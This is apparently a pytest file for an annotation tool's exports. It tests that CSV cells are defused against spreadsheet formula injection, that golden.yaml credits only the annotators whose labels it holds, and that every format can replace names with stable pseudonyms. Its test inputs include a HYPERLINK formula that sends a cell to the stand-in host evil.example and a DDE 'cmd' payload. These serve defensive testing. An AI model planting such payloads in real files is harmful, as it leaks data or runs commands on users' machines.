"""Exports found unsafe by attacking them (#17): CSV cells a spreadsheet runs as formulas,
golden.yaml's judged_by naming people whose labels are not in it, exports naming people
without saying so, and ``anonymize``: stable pseudonyms in every format.

The demo store's annotators, by id: ann 1, bob 2, cat 3, dan 4; cat and dan hold its
relevance labels (cat's faithfulness labels too), ann and bob none.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
import yaml

from annotation.__main__ import main
from annotation.exports import FORMATS, OPTIONS, export_csv, export_golden, export_phoenix, formats_taking
from annotation.exports.common import write_csv
from annotation.exports.download import export_download
from annotation.store import Store
from tests.conftest import cli, page_test

CAT, DAN = "annotator-3", "annotator-4"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"see source")'


@pytest.fixture
def own_demo(demo_db):
    """A demo store a test may change, on the backend under test."""
    with Store(demo_db) as store:
        yield store


def csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as file:  # a CR inside a cell stays a CR
        return list(csv.DictReader(file))


def first_chunk_item(store: Store) -> int:
    _, qid, chunk = store.chunk_items()[0]
    return store.ensure_item("chunk", query_id=qid, chunk_id=chunk)


# ---------------------------------------------------------------- CSV: spreadsheet-safe cells


def test_csv_notes_that_start_a_formula_are_prefixed_with_a_quote(own_demo, tmp_path) -> None:
    """The issue's note runs in a spreadsheet when written raw; every text cell beginning with
    = + - @ TAB or CR gets a leading ' (OWASP); other cells, numbers included, stay as they are."""
    item = first_chunk_item(own_demo)
    notes = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR", "a=b", "-1", "fine"]
    ids = [own_demo.add_label(item, "cat", 2, note=note, seconds=-1.5) for note in notes]
    out = tmp_path / "labels.csv"
    export_csv(own_demo, out)
    rows = {int(row["label_id"]): row for row in csv_rows(out)}
    written = [rows[i]["note"] for i in ids]
    assert written == [
        "'" + FORMULA,
        "'+1+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\tTAB",
        "'\rCR",
        "a=b",
        "-1",  # a number as text is no formula: left as it is
        "fine",
    ]
    # numeric cells stay numbers: a negative one is not prefixed
    assert {rows[i]["seconds"] for i in ids} == {"-1.5"} and {rows[i]["value"] for i in ids} == {"2"}
    assert "\n=HYPERLINK" not in out.read_text() and ",=HYPERLINK" not in out.read_text()


def test_write_csv_prefixes_text_cells_only(tmp_path) -> None:
    """Every CSV export (labels, Phoenix's .csv) writes through write_csv: numbers, negative
    ones too, are written as numbers; text that is a number stays; a formula is defused."""
    out = tmp_path / "t.csv"
    write_csv(out, ["a", "b", "c", "d", "e", "f"], [[-1, -2.5, "-1", "+3.5e2", "=1+1", "-A1"]])
    assert out.read_text().splitlines()[1] == "-1,-2.5,-1,+3.5e2,'=1+1,'-A1"


def test_phoenix_csv_is_spreadsheet_safe(own_demo, tmp_path) -> None:
    """A trace whose span id begins with '=' (metadata from an imported file) is defused too."""
    own_demo.db.execute("ALTER TABLE traces ADD COLUMN meta TEXT")
    own_demo.db.execute(
        "UPDATE traces SET meta = ? WHERE id = 't_faw_bm25_0'", [json.dumps({"span_id": "=2+5"})]
    )
    out = tmp_path / "p.csv"
    export_phoenix(own_demo, out)
    rows = csv_rows(out)
    assert {row["span_id"] for row in rows} >= {"'=2+5"}
    assert all(float(row["score"]) in (0.0, 1.0, 2.0, 3.0) for row in rows)


# ---------------------------------------------------------------- provenance: judged_by


def test_golden_judged_by_lists_only_those_whose_labels_are_in_it(own_demo, tmp_path) -> None:
    """bob graded one trace for faithfulness; ann graded a chunk and took it back: neither
    has a label in golden.yaml, so neither is in its judged_by."""
    trace_id = own_demo.traces_in_import_order()[0][0]
    own_demo.add_label(own_demo.ensure_item("trace", trace_id=trace_id), "bob", 2, "faithfulness")
    item = first_chunk_item(own_demo)
    own_demo.add_label(item, "ann", 3)
    own_demo.undo(item, "ann")
    out = tmp_path / "golden.yaml"
    export_golden(own_demo, out)
    assert yaml.safe_load(out.read_text())["judged_by"] == ["cat", "dan"]


# ---------------------------------------------------------------- provenance: summaries


NAMING = {  # the formats whose file names people, and where
    "golden": "judged_by",
    "csv": "the annotator column",
    "deepeval": "additional_metadata.judged_by",
    "phoenix": "metadata.judged_by and the explanation",
}


@pytest.mark.parametrize("name", list(FORMATS))
def test_the_summary_says_when_the_file_names_people(own_demo, tmp_path, name) -> None:
    said = FORMATS[name].export(own_demo, tmp_path / name)
    clause = (
        f"the file names annotators (cat, dan) in {NAMING.get(name)}: anonymize to write pseudonyms instead"
    )
    if name in NAMING:
        assert clause in said
    else:
        assert "the file names annotators" not in said and "anonymize" not in said


# ---------------------------------------------------------------- anonymize


def test_every_format_takes_anonymize() -> None:
    assert "anonymize" in OPTIONS and formats_taking("anonymize") == list(FORMATS)


def file_text(path: Path) -> str:
    if path.is_dir():
        return "\n".join(p.read_text() for p in sorted(path.rglob("*")) if p.is_file())
    return path.read_text(encoding="utf-8")


NAMES = re.compile(r"\b(cat|dan)\b")


@pytest.mark.parametrize("name", list(FORMATS))
def test_anonymize_leaves_no_name_in_the_file_or_the_summary(own_demo, tmp_path, name) -> None:
    plain = FORMATS[name].export(own_demo, tmp_path / f"plain-{name}")
    anonymous = FORMATS[name].export(own_demo, tmp_path / f"anon-{name}", anonymize=True)
    assert not NAMES.search(anonymous)
    if name != "qrels":  # qrels names no one, not even in its summary
        assert NAMES.search(plain) and CAT in anonymous and DAN in anonymous  # names there to hide
    text = file_text(tmp_path / f"anon-{name}")
    assert not NAMES.search(text)
    if name in NAMING:
        assert NAMES.search(file_text(tmp_path / f"plain-{name}")) and CAT in text and DAN in text
        assert "annotators are named by pseudonyms" in anonymous
    else:  # nothing to hide in the file: the same bytes
        assert text == file_text(tmp_path / f"plain-{name}")


def test_anonymized_values_read_back(own_demo, tmp_path) -> None:
    export_golden(own_demo, tmp_path / "g.yaml", anonymize=True)
    golden = yaml.safe_load((tmp_path / "g.yaml").read_text())
    assert golden["judged_by"] == [CAT, DAN]
    export_csv(own_demo, tmp_path / "l.csv", anonymize=True)
    assert sorted({row["annotator"] for row in csv_rows(tmp_path / "l.csv")}) == [CAT, DAN]
    FORMATS["deepeval"].export(own_demo, tmp_path / "d.json", anonymize=True)
    goldens = json.loads((tmp_path / "d.json").read_text())
    assert {tuple(g["additional_metadata"]["judged_by"]) for g in goldens} == {(CAT, DAN), ()}
    export_phoenix(own_demo, tmp_path / "p.jsonl", anonymize=True)
    rows = [json.loads(line) for line in (tmp_path / "p.jsonl").read_text().splitlines()]
    assert {tuple(r["metadata"]["judged_by"]) for r in rows} == {(CAT, DAN)}
    assert all(r["explanation"].endswith(f"by the median of {CAT}, {DAN}") for r in rows)
    export_phoenix(own_demo, tmp_path / "p.csv", anonymize=True)
    assert all(
        r["explanation"].endswith(f"by the median of {CAT}, {DAN}") for r in csv_rows(tmp_path / "p.csv")
    )


def test_pseudonyms_are_stable_across_exports(own_demo, tmp_path) -> None:
    """By annotator id: one person's export, and an export after a newcomer whose name sorts
    first was added, give cat and dan the same pseudonyms."""
    export_csv(own_demo, tmp_path / "one.csv", annotator="dan", anonymize=True)
    assert {row["annotator"] for row in csv_rows(tmp_path / "one.csv")} == {DAN}
    said = export_phoenix(own_demo, tmp_path / "one.jsonl", annotator="dan", anonymize=True)
    assert f"{DAN}'s grades only" in said and not NAMES.search(said)
    own_demo.add_annotator("aaron")
    item = first_chunk_item(own_demo)
    own_demo.add_label(item, "aaron", 1)
    export_golden(own_demo, tmp_path / "g.yaml", anonymize=True)
    assert yaml.safe_load((tmp_path / "g.yaml").read_text())["judged_by"] == [CAT, DAN, "annotator-5"]


def test_anonymized_golden_of_one_imported_file_drops_its_names(db_at, tmp_path, capsys) -> None:
    """One file's labels keep what it said of them, but not the names it gave."""
    source = tmp_path / "in.yaml"
    source.write_text("judged_by: [alice, bob]\nqueries:\n  - id: q1\n    grades: {d1: 2}\n")
    db = db_at
    assert cli(main, capsys, "import", "--db", db, "--labels", source, "--annotator", "alice")[0] == 0
    with Store(db) as store:
        export_golden(store, tmp_path / "g.yaml", anonymize=True)
    written = (tmp_path / "g.yaml").read_text()
    assert yaml.safe_load(written)["judged_by"] == ["annotator-1"]
    assert "alice" not in written and "bob" not in written


def test_the_command_line_anonymizes(own_demo, demo_db, tmp_path, capsys) -> None:
    out = tmp_path / "g.yaml"
    code, said, err = cli(
        main, capsys, "export", "--db", demo_db, "--format", "golden", "--anonymize", "-o", out
    )
    assert code == 0, err
    assert yaml.safe_load(out.read_text())["judged_by"] == [CAT, DAN] and not NAMES.search(said)


def test_the_page_anonymizes(own_demo, demo_db, monkeypatch) -> None:
    monkeypatch.setenv(
        "DENOMINATOR_DB", str(demo_db)
    )  # own_demo.path: the URL as printed, credentials hidden
    at = page_test("denominator.ui.data.render_data_page", state={"label:annotator": "ann"}).run()
    at.selectbox(key="data:export-format").set_value("csv").run()
    at.checkbox(key="data:export-anonymize").check().run()
    at.button(key="data:export").click().run()
    assert not at.exception and not at.error
    prepared = at.session_state["data:export-file"]
    expected = export_download(own_demo, "csv", anonymize=True)
    assert prepared.data == expected.data and prepared.summary == expected.summary
    rows = list(csv.DictReader(io.StringIO(prepared.data.decode("utf-8"), newline="")))
    assert sorted({row["annotator"] for row in rows}) == [CAT, DAN]
    # a folder format's zip holds no names either
    at.selectbox(key="data:export-format").set_value("trec").run()
    at.button(key="data:export").click().run()
    with zipfile.ZipFile(io.BytesIO(at.session_state["data:export-file"].data)) as archive:
        assert not any(NAMES.search(archive.read(n).decode()) for n in archive.namelist())
